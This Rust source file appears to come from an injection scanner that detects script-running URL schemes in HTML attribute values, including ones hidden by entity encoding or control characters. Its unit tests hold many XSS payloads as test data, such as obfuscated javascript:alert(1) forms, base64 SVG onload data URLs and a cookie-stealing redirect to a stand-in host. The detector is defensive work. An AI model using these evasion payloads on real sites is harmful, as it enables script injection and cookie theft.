//! Script-running URL schemes, seen the way a browser sees an attribute value: character
//! references decoded (`&#106;`, `&#x09;`, `&colon;`, with or without `;`), then tab, newline
//! and other control characters removed, then lower-cased.

use super::js_sink::{find_sinks, js_view};
use super::Hit;
use base64::Engine as _;

/// Only the start of a URL decides its scheme; attribute values are decoded up to this size.
pub(super) const MAX_DECODE: usize = 4096;

/// A script-running scheme found at the start of a URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scheme {
    Javascript,
    Vbscript,
    /// `data:` whose media type (or base64 payload) is HTML, SVG or XML.
    DataMarkup,
}

impl Scheme {
    pub fn label(self) -> &'static str {
        match self {
            Scheme::Javascript => "javascript:",
            Scheme::Vbscript => "vbscript:",
            Scheme::DataMarkup => "data: with HTML/SVG content",
        }
    }
}

fn named_entity(name: &str) -> Option<char> {
    // The references attackers use to hide a scheme or a call; unknown names stay literal.
    Some(match name {
        "colon" => ':',
        "tab" => '\t',
        "newline" => '\n',
        "lpar" => '(',
        "rpar" => ')',
        "sol" => '/',
        "bsol" => '\\',
        "period" => '.',
        "comma" => ',',
        "semi" => ';',
        "equals" => '=',
        "quot" => '"',
        "apos" => '\'',
        "grave" => '`',
        "lt" => '<',
        "gt" => '>',
        "amp" => '&',
        "excl" => '!',
        "num" => '#',
        "plus" => '+',
        "lsqb" | "lbrack" => '[',
        "rsqb" | "rbrack" => ']',
        "lcub" | "lbrace" => '{',
        "rcub" | "rbrace" => '}',
        "nbsp" => '\u{a0}',
        _ => return None,
    })
}

/// Decodes character references once, as the HTML tokenizer does inside attribute values.
/// Numeric references may lack the `;` and carry leading zeros (`&#0000106`). Bounded by
/// [`MAX_DECODE`] input bytes. Returns `None` (no allocation) when there is no `&`.
pub fn decode_entities(s: &str) -> Option<String> {
    memchr::memchr(b'&', s.as_bytes())?;
    let mut out = String::with_capacity(s.len().min(MAX_DECODE));
    let mut rest = s;
    while let Some(p) = rest.find('&') {
        if out.len() >= MAX_DECODE {
            return Some(out);
        }
        out.push_str(&rest[..p]);
        let after = &rest[p + 1..];
        match decode_one(after) {
            Some((c, used)) => {
                out.push(c);
                rest = &after[used..];
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    Some(out)
}

/// Whether some `&` in `s` starts a reference [`decode_entities`] decodes.
pub(super) fn has_reference(s: &str) -> bool {
    memchr::memchr_iter(b'&', s.as_bytes()).any(|p| decode_one(&s[p + 1..]).is_some())
}

/// Decodes one reference after its `&`; returns the char and the bytes consumed.
fn decode_one(after: &str) -> Option<(char, usize)> {
    let b = after.as_bytes();
    if b.first() == Some(&b'#') {
        let hex = matches!(b.get(1), Some(b'x' | b'X'));
        let start = if hex { 2 } else { 1 };
        let mut i = start;
        let mut v: u32 = 0;
        while i < b.len() && i < start + 32 {
            let d = if hex {
                (b[i] as char).to_digit(16)
            } else {
                (b[i] as char).to_digit(10)
            };
            let Some(d) = d else { break };
            v = v
                .saturating_mul(if hex { 16 } else { 10 })
                .saturating_add(d);
            i += 1;
        }
        if i == start {
            return None;
        }
        if b.get(i) == Some(&b';') {
            i += 1;
        }
        let c = char::from_u32(v).unwrap_or('\u{fffd}');
        return Some((c, i));
    }
    let len = b
        .iter()
        .take(10)
        .take_while(|c| c.is_ascii_alphabetic())
        .count();
    if len == 0 {
        return None;
    }
    // Lower-cased in a stack buffer: most `&` in values start no reference at all.
    let mut name = [0u8; 10];
    name[..len].copy_from_slice(&b[..len]);
    name.make_ascii_lowercase();
    let c = named_entity(std::str::from_utf8(&name[..len]).ok()?)?;
    let used = if b.get(len) == Some(&b';') {
        len + 1
    } else {
        len
    };
    Some((c, used))
}

/// The start of a URL as its scheme parser sees it: control characters and spaces removed
/// (browsers strip leading ones and drop tab/newline anywhere), lower-cased, at most `n` chars.
pub fn normalized_prefix(decoded: &str, n: usize) -> String {
    decoded
        .chars()
        .filter(|&c| c > ' ' && c != '\u{7f}' && c != '\u{a0}')
        .take(n)
        .flat_map(char::to_lowercase)
        .collect()
}

/// The scheme of an attribute's URL value, after entity decoding and whitespace removal.
/// Returns the scheme and whether decoding or whitespace removal was needed to see it.
pub fn url_attr_scheme(raw: &str) -> Option<(Scheme, bool)> {
    let decoded = decode_entities(raw);
    let text = decoded.as_deref().unwrap_or(raw);
    // Every scheme [`scheme_of`] knows starts with one of these letters: most URLs (`https:`,
    // paths) are ruled out by their first character, before the lower-cased prefix is built.
    // A non-ASCII first character may lower-case to anything, so it takes the full path.
    let first = text
        .chars()
        .find(|&c| c > ' ' && c != '\u{7f}' && c != '\u{a0}');
    if first.is_some_and(|c| {
        c.is_ascii() && !matches!(c.to_ascii_lowercase(), 'f' | 'j' | 'l' | 'm' | 'v' | 'd')
    }) {
        return None;
    }
    let prefix = normalized_prefix(text, 200);
    let scheme = scheme_of(&prefix, text)?;
    let plain = raw.trim_start().to_ascii_lowercase();
    let obfuscated = !plain.starts_with(&prefix[..prefix.find(':').unwrap_or(0) + 1]);
    Some((scheme, obfuscated))
}

/// Scheme of an already normalized prefix; `full` is the decoded text (for base64 data URLs).
pub fn scheme_of(prefix: &str, full: &str) -> Option<Scheme> {
    // Old browsers let a feed:/jar: wrapper carry a javascript: URL; strip such wrappers once.
    let p = prefix
        .strip_prefix("feed:")
        .or_else(|| prefix.strip_prefix("jar:"))
        .unwrap_or(prefix);
    if p.starts_with("javascript:") || p.starts_with("livescript:") || p.starts_with("mocha:") {
        return Some(Scheme::Javascript);
    }
    if p.starts_with("vbscript:") {
        return Some(Scheme::Vbscript);
    }
    let data = p.strip_prefix("data:")?;
    let (meta, payload_start) = match data.find(',') {
        Some(c) => (&data[..c], Some(c + 1)),
        None => (data, None),
    };
    let markup_type = [
        "text/html",
        "image/svg",
        "application/xhtml",
        "text/xml",
        "application/xml",
    ]
    .iter()
    .any(|t| meta.starts_with(t));
    if markup_type {
        return Some(Scheme::DataMarkup);
    }
    // data:;base64,PHN2Zy... or data:,<script>: look at what the payload decodes to.
    let payload = payload_start.map(|_| {
        let at = full.find(',').map_or(full.len(), |c| c + 1);
        &full[at..]
    })?;
    let head: String = payload
        .chars()
        .filter(|c| !c.is_whitespace())
        .take(64)
        .collect();
    if meta.ends_with("base64") {
        let cut = head.len() - head.len() % 4;
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(&head.as_bytes()[..cut])
            .unwrap_or_default();
        let lower = String::from_utf8_lossy(&bytes).to_ascii_lowercase();
        let lower = lower.trim_start();
        if lower.starts_with("<svg")
            || lower.starts_with("<script")
            || lower.starts_with("<html")
            || lower.starts_with("<?xml")
            || lower.starts_with("<!doctype")
            || lower.starts_with("<img")
            || lower.starts_with("<iframe")
            || lower.starts_with("<body")
        {
            return Some(Scheme::DataMarkup);
        }
    } else if meta.is_empty() && head.starts_with('<') {
        return Some(Scheme::DataMarkup);
    }
    None
}

/// Script-running URLs anywhere in a value (the value may become an `href`, or carry one as a
/// parameter: `?next=javascript:alert(1)`). At the start of the value any JS-like rest counts;
/// inside text the URL must use a sink, since "JavaScript: the good parts" is a book title.
pub fn inspect_text(text: &str) -> Option<Hit> {
    // A short value none of whose `&` starts a reference decodes to itself: no copy needed.
    let decoded = if text.len() <= MAX_DECODE && !has_reference(text) {
        None
    } else {
        decode_entities(text)
    };
    let full = decoded.as_deref().unwrap_or(text);
    if !mentions_scheme(full) {
        return None;
    }
    // Every reading below needs a scheme's `:` after its name, whatever was removed between
    // the letters. The decoded text is complete (not cut at MAX_DECODE) unless the value is
    // longer and held a reference; then the references are read in full below.
    let complete = decoded.is_none() || text.len() <= MAX_DECODE;
    if complete && !names_scheme_spaced(full.as_bytes()) {
        return None;
    }
    read_text(text, full)
}

/// [`inspect_text`] past its gates: `full` is `text` with character references decoded.
fn read_text(text: &str, full: &str) -> Option<Hit> {
    // Tab, CR and LF vanish inside URLs; keep spaces (they end a URL in running text).
    let flat: String = full
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r' | '\0'))
        .take(MAX_DECODE)
        .flat_map(char::to_lowercase)
        .collect();
    let lead = normalized_prefix(full, 200);
    let mut best: Option<Hit> = None;
    if let Some(scheme) = scheme_of(&lead, full) {
        let rest = lead.split_once(':').map_or("", |(_, r)| r);
        let rest = rest.strip_prefix("javascript:").unwrap_or(rest);
        let h = match scheme {
            Scheme::DataMarkup => Some(Hit::new(0.8, "value is a data: URL with HTML/SVG content")),
            _ if !find_sinks(&js_view(rest)).is_empty() => Some(Hit::new(
                0.9,
                format!("value is a {} URL calling a JS sink", scheme.label()),
            )),
            // A backslash is a JS escape (`javascript:\u0061lert`): code, not prose.
            _ if rest.contains(['(', ';', '=', '\'', '"', '`', '[', '\\']) && !is_void(rest) => {
                Some(Hit::new(
                    0.6,
                    format!("value is a {} URL with code", scheme.label()),
                ))
            }
            _ => None,
        };
        best = h;
    }
    if best.is_none() {
        for (p, _) in flat.match_indices("script:").take(16) {
            let start = flat[..p]
                .char_indices()
                .rev()
                .find(|(_, c)| !c.is_ascii_alphabetic())
                .map_or(0, |(i, c)| i + c.len_utf8());
            let word = &flat[start..p];
            if word != "java" && word != "vb" && word != "live" {
                continue;
            }
            let rest: String = flat[p + 7..].chars().take(200).collect();
            if let Some(s) = find_sinks(&js_view(&rest)).first() {
                best = Some(Hit::new(
                    0.85,
                    format!("{word}script: URL in value calling {}", s.name),
                ));
                break;
            }
        }
    }
    if best.is_none() {
        best = hidden_scheme(text).map(|word| {
            Hit::new(
                0.75,
                format!("{word}: scheme hidden by character references or control characters"),
            )
        });
    }
    if best.is_none() {
        for (p, _) in flat.match_indices("data:").take(16) {
            let pre = flat[..p].chars().next_back();
            if pre.is_some_and(|c| c.is_ascii_alphanumeric()) {
                continue;
            }
            let tail = &flat[p..];
            let tail_prefix = normalized_prefix(tail, 200);
            if scheme_of(&tail_prefix, tail) == Some(Scheme::DataMarkup) {
                best = Some(Hit::new(0.75, "data: URL with HTML/SVG content in value"));
                break;
            }
        }
    }
    best
}

/// Script scheme names a browser would read in an attribute.
const SCRIPT_SCHEMES: [&str; 3] = ["javascript", "vbscript", "livescript"];

/// A script scheme whose letters or colon are spelled with character references or split by
/// tab, newline or NUL (`ja&Tab;vascript:`, `jav&#x0A;ascript&colon;`, `java\tscript:`). The
/// browser still reads the scheme, and only a filter evasion spells one so, so the payload
/// after it does not matter. Whitespace before the scheme, and a line break at the word joint
/// (`Java\nScript:`, prose wrapped across lines), do not count. Returns the scheme name.
fn hidden_scheme(text: &str) -> Option<&'static str> {
    /// One character as the browser reads it.
    #[derive(Clone, Copy)]
    struct Read {
        c: char,
        /// Spelled as a character reference.
        reference: bool,
        /// A tab or NUL (`ctrl`) or a line break (`newline`) was removed right before it.
        ctrl: bool,
        newline: bool,
    }
    // The letters since the last non-letter; a run longer than any scheme is no scheme.
    let mut tail: Vec<Read> = Vec::with_capacity(16);
    let mut long_run = false;
    let (mut ctrl, mut newline) = (false, false);
    let mut rest = text;
    // Bounded: one step per input character, at most MAX_DECODE of them.
    for _ in 0..MAX_DECODE {
        let Some(c) = rest.chars().next() else { break };
        let (ch, used, reference) = match c {
            '&' => decode_one(&rest[1..]).map_or(('&', 1, false), |(d, n)| (d, 1 + n, true)),
            _ => (c, c.len_utf8(), false),
        };
        rest = &rest[used..];
        match ch {
            '\t' | '\0' => {
                ctrl = true;
                continue;
            }
            '\n' | '\r' => {
                ctrl |= reference;
                newline = true;
                continue;
            }
            _ => {}
        }
        let read = Read {
            c: ch.to_ascii_lowercase(),
            reference,
            ctrl,
            newline,
        };
        (ctrl, newline) = (false, false);
        if read.c == ':' && !long_run {
            let letters: String = tail.iter().map(|r| r.c).collect();
            for word in SCRIPT_SCHEMES {
                if letters != *word {
                    continue;
                }
                let joint = word.len() - "script".len();
                let tricked = read.reference
                    || read.ctrl
                    || read.newline
                    || tail.iter().enumerate().any(|(k, r)| {
                        r.reference || (k > 0 && r.ctrl) || (k > 0 && k != joint && r.newline)
                    });
                if tricked {
                    return Some(word);
                }
            }
        }
        if read.c.is_ascii_alphabetic() {
            if tail.len() < 16 {
                tail.push(read);
            } else {
                long_run = true;
            }
        } else {
            tail.clear();
            long_run = false;
        }
    }
    None
}

/// Cheap gate: the text names a script scheme, or has URL-invisible characters (tab, CR, LF,
/// NUL) that could split one.
fn mentions_scheme(full: &str) -> bool {
    // Byte searches: most values hold none of these, and a SIMD search per byte costs less
    // than a branchy loop over every byte.
    let b = full.as_bytes();
    memchr::memchr3(b'\t', b'\n', b'\r', b).is_some()
        || memchr::memchr(0, b).is_some()
        || names_scheme(b)
}

/// A `:` right after `script`, `data` or `mocha` (any case): the only words before the colon
/// of a scheme [`inspect_text`] reports.
pub(super) fn names_scheme(b: &[u8]) -> bool {
    memchr::memchr_iter(b':', b).any(|p| {
        ["script", "data", "mocha"]
            .iter()
            .any(|w| p >= w.len() && b[p - w.len()..p].eq_ignore_ascii_case(w.as_bytes()))
    })
}

/// A `:` after the letters of `script`, `data` or `mocha` (any case), with any of the
/// characters some reading of [`inspect_text`] removes (controls, spaces, `\u{7f}`, `\u{a0}`)
/// among and after them. Every scheme it reports is so spelled in the decoded text: the
/// letters are ASCII, since lower-casing makes no ASCII letter of a non-ASCII character that a
/// scheme letter or `:` could follow. One backward walk per `:`, stopped by the previous `:`.
/// A `data:` counts only if it may carry markup ([`data_may_hold_markup`]): `:data:` roles in
/// documentation never do.
pub(super) fn names_scheme_spaced(b: &[u8]) -> bool {
    let mut base64 = None;
    memchr::memchr_iter(b':', b).any(|p| {
        let mut word = [0u8; 6];
        let mut n = 0;
        let mut k = p;
        while k > 0 && n < word.len() {
            let c = b[k - 1];
            if c <= b' ' || c == 0x7f {
                k -= 1;
            } else if c == 0xa0 && k >= 2 && b[k - 2] == 0xc2 {
                k -= 2;
            } else if c.is_ascii_alphabetic() {
                let c = c.to_ascii_lowercase();
                // Each word ends in `t` or `a`: most colons (`https:`) are ruled out here.
                if n == 0 && c != b't' && c != b'a' {
                    return false;
                }
                n += 1;
                word[word.len() - n] = c;
                k -= 1;
            } else {
                break;
            }
        }
        let word = &word[word.len() - n..];
        word.ends_with(b"script")
            || word.ends_with(b"mocha")
            || word.ends_with(b"data")
                && data_may_hold_markup(&b[p + 1..], || {
                    *base64.get_or_insert_with(|| ends_base64(b))
                })
    })
}

/// Bytes a scheme reading may drop (controls, spaces, DEL) or that start or end a no-break
/// space (C2 A0); a lone C2 or A0 byte belongs to another non-ASCII character, which a caller
/// treats as "may be anything" when it stops on the other byte.
fn droppable(c: u8) -> bool {
    c <= b' ' || c == 0x7f || c == 0xc2 || c == 0xa0
}

/// Whether a `data:` URL whose text after the colon is `rest` can be read as markup by
/// [`scheme_of`]: its media type starts with `t`, `i` or `a` (`text/html`, `image/svg`,
/// `application/xhtml`...), or it is empty (`data:,<svg>`), or it ends with `base64` before a
/// `,` (`base64_comma`, asked only then, for the whole value: one pass however many `data:`).
fn data_may_hold_markup(rest: &[u8], base64_comma: impl FnOnce() -> bool) -> bool {
    match rest.iter().find(|&&c| !droppable(c)) {
        Some(&c)
            if !c.is_ascii() || matches!(c.to_ascii_lowercase(), b't' | b'i' | b'a' | b',') =>
        {
            true
        }
        _ => base64_comma(),
    }
}

/// A `,` after a `4` with only droppable bytes between (the end of `;base64,`).
fn ends_base64(b: &[u8]) -> bool {
    memchr::memchr_iter(b',', b)
        .any(|q| b[..q].iter().rev().find(|&&c| !droppable(c)) == Some(&b'4'))
}

/// `javascript:void(0)` and friends do nothing.
fn is_void(rest: &str) -> bool {
    let r: String = rest.chars().filter(|c| !c.is_whitespace()).collect();
    r.is_empty()
        || r.starts_with("void(0)")
        || r.starts_with("void0")
        || r == ";"
        || r.starts_with("return false")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_without_references_decodes_to_itself() {
        let pieces = [
            "&", "&#", "&#x", "#", "x", "6a", "106", ";", "amp", "AMP", "colon", "Tab", "b", "=",
            "q", " ", "é", "&&", "lt", "nbsp",
        ];
        let mut rng = crate::test_rng::TestRng::new(0x9E6C_63D0_676A_9A99);
        for _ in 0..50_000 {
            let n = rng.below(8);
            let s: String = (0..n).map(|_| pieces[rng.below(pieces.len())]).collect();
            if !has_reference(&s) {
                assert_eq!(decode_entities(&s).unwrap_or_else(|| s.clone()), s, "{s:?}");
            } else {
                assert_ne!(decode_entities(&s).as_deref(), Some(s.as_str()), "{s:?}");
            }
        }
    }

    #[test]
    fn scheme_gates() {
        for t in [
            "JavaScript:",
            "x data:",
            "MOCHA:",
            "a\tb",
            "a\nb",
            "a\rb",
            "a\0b",
        ] {
            assert!(mentions_scheme(t), "{t:?}");
        }
        for t in ["https://x.example/a", "script :", "notes: data", ""] {
            assert!(!mentions_scheme(t), "{t:?}");
        }
        assert!(names_scheme(b"x VBScript:y"));
        assert!(names_scheme(b"a: b DATA:"));
        assert!(!names_scheme(b":data ta: scrip:"));
        // Leading controls and spaces are skipped before the first letter is judged.
        assert!(url_attr_scheme("\u{0} \tJAVASCRIPT:x").is_some());
        assert!(url_attr_scheme(" &#x64;ata:text/html,x").is_some());
        assert!(url_attr_scheme("https://example.com/javascript:x").is_none());
    }

    #[test]
    fn spaced_scheme_gate_is_exact() {
        // No non-ASCII character lower-cases to an ASCII scheme letter that an ASCII letter or
        // `:` could follow (`İ` gives `i` and a combining dot).
        for c in (0x80..=0x10FFFF).filter_map(char::from_u32) {
            let l: Vec<char> = c.to_lowercase().collect();
            for (j, a) in l.iter().enumerate() {
                if "scriptdamoh:".contains(*a) {
                    assert!(l.get(j + 1).is_some_and(|n| !n.is_ascii()), "{c:?}");
                }
            }
        }
        let parts = [
            "java",
            "script",
            "vb",
            "live",
            "mocha",
            "data",
            "feed:",
            "jar:",
            "scr",
            "ipt",
            "da",
            "ta",
            ":",
            "&colon;",
            "&#58",
            "&#x3A;",
            "&Tab;",
            "&NewLine;",
            "&#x6A;",
            "&amp;",
            "&",
            "\t",
            "\n",
            "\r",
            "\0",
            " ",
            "\u{a0}",
            "\u{7f}",
            "\u{b}",
            "é",
            "\u{130}",
            "\u{212a}",
            "S",
            "T",
            "A",
            "x",
            "alert(1)",
            "text/html,",
            "<svg>",
            ";base64,",
            "PHN2Zz4=",
            ",",
            "(",
            "=",
            "https://a.b/",
            "void(0)",
            "document.cookie",
            "javascript:",
            "JavaScript:alert(1)",
            "java\tscript:",
            "data:text/html,<svg>",
            "vbscript:msgbox(1)",
            ":data:`x`",
            "data:;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+",
            "base64",
            "4 ,",
            "data: ,<b>",
            "DATA:Text/HTML,<svg>",
            "data:image/svg+xml,",
        ];
        let mut rng = crate::test_rng::TestRng::new(0x9E37_79B9_7F4A_7C15);
        let (mut gated, mut found) = (0, 0);
        for _ in 0..40_000 {
            let t = rng.pieces(&parts, 8);
            let decoded = decode_entities(&t);
            let full = decoded.as_deref().unwrap_or(&t);
            let gate = mentions_scheme(full) && !names_scheme_spaced(full.as_bytes());
            gated += usize::from(gate);
            let fast = inspect_text(&t);
            found += usize::from(fast.is_some());
            let slow = mentions_scheme(full).then(|| read_text(&t, full)).flatten();
            assert_eq!(fast, slow, "{t:?}");
        }
        assert!(gated > 1000 && found > 1000, "{gated} {found}");
    }

    #[test]
    fn entity_decoding_with_and_without_semicolons() {
        assert_eq!(decode_entities("&#106;avascript").unwrap(), "javascript");
        assert_eq!(decode_entities("&#0000106&#0000097").unwrap(), "ja");
        assert_eq!(decode_entities("&#x6A;&#X61").unwrap(), "ja");
        assert_eq!(decode_entities("a&colon;b&Tab;c&lpar;").unwrap(), "a:b\tc(");
        assert_eq!(
            decode_entities("Tom &amp; Jerry & co &unknown;").unwrap(),
            "Tom & Jerry & co &unknown;"
        );
        assert!(decode_entities("no refs").is_none());
        assert_eq!(decode_entities("&#99999999999999;").unwrap(), "\u{fffd}");
    }

    #[test]
    fn obfuscated_javascript_schemes() {
        for v in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java&#x09;script:alert(1)",
            "&#106;avascript:alert(1)",
            "jav\tascript:alert(1)",
            " \n javascript&colon;alert(1)",
            "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
        ] {
            assert_eq!(
                url_attr_scheme(v).map(|s| s.0),
                Some(Scheme::Javascript),
                "{v}"
            );
        }
        assert_eq!(
            url_attr_scheme("java&#x09;script:x"),
            Some((Scheme::Javascript, true))
        );
        assert_eq!(
            url_attr_scheme("javascript:x"),
            Some((Scheme::Javascript, false))
        );
        assert_eq!(
            url_attr_scheme("vbscript:msgbox(1)").map(|s| s.0),
            Some(Scheme::Vbscript)
        );
    }

    #[test]
    fn data_urls() {
        assert_eq!(
            url_attr_scheme("data:text/html,<script>alert(1)</script>").map(|s| s.0),
            Some(Scheme::DataMarkup)
        );
        assert_eq!(
            url_attr_scheme("data:text/html;base64,PHNjcmlwdD4=").map(|s| s.0),
            Some(Scheme::DataMarkup)
        );
        // base64 of "<svg/onload=alert(2)>" with a generic type
        assert_eq!(
            url_attr_scheme("data:;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+").map(|s| s.0),
            Some(Scheme::DataMarkup)
        );
        assert_eq!(url_attr_scheme("data:image/png;base64,iVBORw0KGgo="), None);
        // Non-ASCII payloads must not be cut inside a character.
        assert_eq!(url_attr_scheme("data:;base64,ééé"), None);
    }

    #[test]
    fn schemes_in_values() {
        for t in [
            "javascript:alert(1)//INJECTX",
            "  JAVASCRIPT:document.location='//e/'+document.cookie",
            "?baseurl=asfunction:getURL,javascript:alert(1)//",
            "{\"url\":\"javascript&#10:alert(7)\"}",
            "data:text/html,<script>alert(0)</script>",
            "x=data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+",
            "vbscript:msgbox(1)",
        ] {
            assert!(inspect_text(t).is_some_and(|h| h.score >= 0.5), "{t}");
        }
        for t in [
            "JavaScript: The Good Parts",
            "javascript:void(0)",
            "I learned javascript: it was fun; alerting people",
            "data: 3 rows",
            "https://example.org/?q=javascript",
        ] {
            assert!(inspect_text(t).is_none(), "{t}");
        }
    }

    #[test]
    fn hidden_schemes_need_no_payload() {
        for t in [
            "jav&Tab;ascript: ",
            "java&NewLine;script&colon;",
            "v&tab;b&newline;script:",
            "javascript&#58;",
            "jav\tascript:",
            "x=java\u{0}script:",
            "\"&#x6A;avascript:\"",
            "LIVE&#x09;SCRIPT:",
        ] {
            assert!(hidden_scheme(t).is_some(), "{t:?}");
            assert!(inspect_text(t).is_some_and(|h| h.score >= 0.5), "{t:?}");
        }
        for t in [
            "javascript:",
            "Learn Java\nScript: the basics",
            "\tjavascript: a language",
            "myjava&tab;script:",
            "Tom &amp; Jerry: javascript",
            "notes:\n javascript: fun",
        ] {
            assert!(hidden_scheme(t).is_none(), "{t:?}");
        }
    }

    #[test]
    fn ordinary_urls_pass() {
        for v in [
            "https://example.org/a?b=c&amp;d=e",
            "/path/to",
            "mailto:a@b.c",
            "#top",
            "java.html",
            "javascript.html",
        ] {
            assert_eq!(url_attr_scheme(v), None, "{v}");
        }
    }
}
